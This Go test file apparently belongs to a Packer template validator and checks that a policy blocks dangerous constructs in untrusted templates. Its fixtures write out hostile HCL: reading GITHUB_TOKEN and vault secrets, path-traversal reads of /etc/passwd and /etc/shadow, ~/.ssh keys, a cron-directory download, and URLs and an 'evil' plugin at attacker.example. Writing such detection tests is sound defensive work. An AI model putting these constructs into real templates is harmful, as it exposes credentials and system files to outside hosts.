// SPDX-License-Identifier: Apache-2.0
// Created: 2026-11-23T02:47:00Z
// Spec: openspec/specs/static-validation/spec.md#requirement-policy-for-untrusted-trees
// Diagram: openspec/specs/static-validation/diagram.md#policy

package validate_test

import (
	"slices"
	"testing"

	"github.com/packer-hybrid/packer-hybrid/hybridcore"
	"github.com/packer-hybrid/packer-hybrid/hybridcore/validate"
)

// build is a template with one more block in its build.
func build(block string) string {
	return `packer { required_version = ">= 1.10.0" }
variable "given" { type = string }
source "null" "x" { communicator = "none" }
build {
  sources = ["source.null.x"]
` + block + "\n}\n"
}

// What a tree of somebody untrusted could do is named by its rule; without a
// policy the same tree is allowed to.
func TestPolicy(t *testing.T) {
	t.Parallel()
	tests := map[string]struct{ text, rule string }{
		"environment":        {head + "variable \"t\" {\n  default = env(\"GITHUB_TOKEN\")\n}\n", validate.RulePolicyCall},
		"Vault":              {head + "locals {\n  a = vault(\"secret/data/x\", \"key\")\n}\n", validate.RulePolicyCall},
		"Consul":             {head + "locals {\n  a = [for k in [\"a\"] : consul_key(k)]\n}\n", validate.RulePolicyCall},
		"AWS":                {head + "locals {\n  a = aws_secretsmanager(\"x\", \"y\")\n}\n", validate.RulePolicyCall},
		"file":               {head + "locals {\n  a = file(\"/etc/passwd\")\n}\n", validate.RulePolicyPath},
		"file below":         {head + "locals {\n  a = file(\"${path.root}/a/../../../etc/passwd\")\n}\n", validate.RulePolicyPath},
		"file in a loop":     {head + "locals {\n  a = [for f in [\"/etc/passwd\"] : file(f)]\n}\n", validate.RulePolicyPath},
		"file by a variable": {build(`  provisioner "shell" { inline = [file(var.given)] }`), validate.RulePolicyPath},
		"templatefile":       {head + "locals {\n  a = templatefile(\"../../../../etc/hostname\", {})\n}\n", validate.RulePolicyPath},
		"fileset":            {head + "locals {\n  a = fileset(\"/\", \"**\")\n}\n", validate.RulePolicyPath},
		"home":               {head + "locals {\n  a = pathexpand(\"~/.ssh\")\n}\n", validate.RulePolicyCall},
		"data source":        {head + "data \"http\" \"x\" {\n  url = \"https://attacker.example\"\n}\n", validate.RulePolicyData},
		"plugin":             {head + "packer {\n  required_plugins {\n    evil = {\n      source  = \"github.com/attacker/evil\"\n      version = \">= 1.0.0\"\n    }\n  }\n}\n", validate.RulePolicyPlugin},
		"shell-local":        {build(`  provisioner "shell-local" { inline = ["id"] }`), validate.RulePolicyRun},
		"shell-local after":  {build(`  post-processor "shell-local" { inline = ["id"] }`), validate.RulePolicyRun},
		"dynamic":            {build("  dynamic \"provisioner\" {\n    for_each = [1]\n    labels   = [\"shell-local\"]\n    content { inline = [\"id\"] }\n  }"), validate.RulePolicyRun},
		"artifice":           {build(`  post-processor "artifice" { files = ["/etc/shadow"] }`), validate.RulePolicyPart},
		"upload":             {build("  provisioner \"file\" {\n    source      = \"/etc/shadow\"\n    destination = \"/tmp/x\"\n  }"), validate.RulePolicyPath},
		"download":           {build("  provisioner \"file\" {\n    direction   = \"download\"\n    source      = \"/tmp/x\"\n    destination = \"/etc/cron.d/x\"\n  }"), validate.RulePolicyPath},
		"ansible command":    {build("  provisioner \"ansible\" {\n    playbook_file = \"./a.pkr.hcl\"\n    command       = \"./evil\"\n  }"), validate.RulePolicyRun},
		"HTTP folder":        {iso(`http_directory = "/"`), validate.RulePolicyPath},
		"CD files":           {iso(`cd_files = ["/etc/*"]`), validate.RulePolicyPath},
		"key file":           {iso(`ssh_private_key_file = "~/.ssh/id_rsa"`), validate.RulePolicyPath},
		"agent":              {iso(`ssh_agent_auth = true`), validate.RulePolicyRun},
		"medium":             {iso(`iso_url = "file:///etc/shadow"`), validate.RulePolicyURL},
		"medium elsewhere":   {iso(`iso_url = "https://attacker.example/x.iso"`), validate.RulePolicyURL},
		"medium with name":   {iso(`iso_url = "https://mirror.example@attacker.example/x.iso"`), validate.RulePolicyURL},
		"checksum":           {iso(`iso_checksum = "file:http://attacker.example/x"`), validate.RulePolicyURL},
	}
	for name, test := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			in := input(map[string]string{"a.pkr.hcl": test.text})
			is := func(f hybridcore.Finding) bool {
				return f.Rule == test.rule && f.Kind == validate.KindPolicy && f.Blocking && f.Line > 0
			}
			if findings := validate.Check(in); slices.ContainsFunc(findings, is) {
				t.Errorf("without a policy: %v", findings)
			}
			in.Policy = &validate.Policy{Hosts: []string{"mirror.example"}}
			findings := validate.Check(in)
			if !slices.ContainsFunc(findings, is) || hybridcore.Blocked(findings) != hybridcore.BlockedByRule {
				t.Errorf("want %s in %v", test.rule, findings)
			}
		})
	}
	in := input(map[string]string{"a.pkr.hcl": iso(`iso_url = "https://mirror.example/x.iso"`)})
	in.Policy = &validate.Policy{Hosts: []string{"mirror.example"}}
	for _, f := range validate.Check(in) {
		if f.Kind == validate.KindPolicy {
			t.Errorf("an allowed host: %v", f)
		}
	}
}

// iso is a source with one more setting.
func iso(setting string) string {
	return "packer {\n  required_version = \">= 1.10.0\"\n  required_plugins {\n    vsphere = {\n      source  = \"github.com/hashicorp/vsphere\"\n      version = \">= 1.4.0\"\n    }\n  }\n}\n" +
		"source \"vsphere-iso\" \"x\" {\n  " + setting + "\n}\nbuild {\n  sources = [\"source.vsphere-iso.x\"]\n}\n"
}

// Every embedded schema can be read.
func TestEmbeddedSchemas(t *testing.T) {
	t.Parallel()
	for kind, names := range map[validate.Kind][]string{
		validate.Builder:       {"azure-arm", "azure-chroot", "azure-dtl", "file", "null", "proxmox-clone", "proxmox-iso", "vsphere-clone", "vsphere-iso", "vsphere-supervisor"},
		validate.Provisioner:   {"ansible", "ansible-local", "azure-dtlartifact", "breakpoint", "file", "hcp-sbom", "powershell", "shell", "shell-local", "sleep", "windows-restart", "windows-shell"},
		validate.PostProcessor: {"artifice", "checksum", "compress", "manifest", "shell-local", "vsphere", "vsphere-template"},
		validate.DataSource:    {"azure-keyvaultsecret", "hcp-packer-artifact", "hcp-packer-image", "hcp-packer-iteration", "hcp-packer-version", "http", "null"},
	} {
		for _, name := range names {
			if schema, ok := validate.Embedded(kind, name); !ok || len(schema.Attributes) == 0 || schema.Plugin == "" || schema.Version == "" {
				t.Errorf("%s %s: %+v", kind, name, schema)
			}
		}
	}
}

// No text makes the check panic, hang or answer differently the second time.
func FuzzCheck(f *testing.F) {
	for _, test := range hostile() {
		if len(test.text) < 2_000 {
			f.Add(test.text, "a: 1")
		}
	}
	f.Add(iso(`iso_url = "x"`), "- a: &b [*b]")
	f.Add(build("  dynamic \"provisioner\" {\n    for_each = var.given\n    labels   = [\"shell\"]\n    content { inline = [provisioner.value] }\n  }"), "x: [")
	f.Fuzz(func(t *testing.T, text, playbook string) {
		in := input(map[string]string{"a.pkr.hcl": text, "p.yml": playbook, "t.tpl": text})
		in.Policy = &validate.Policy{}
		first, second := validate.Check(in), validate.Check(in)
		if len(first) != len(second) {
			t.Errorf("%d and %d findings", len(first), len(second))
		}
	})
}
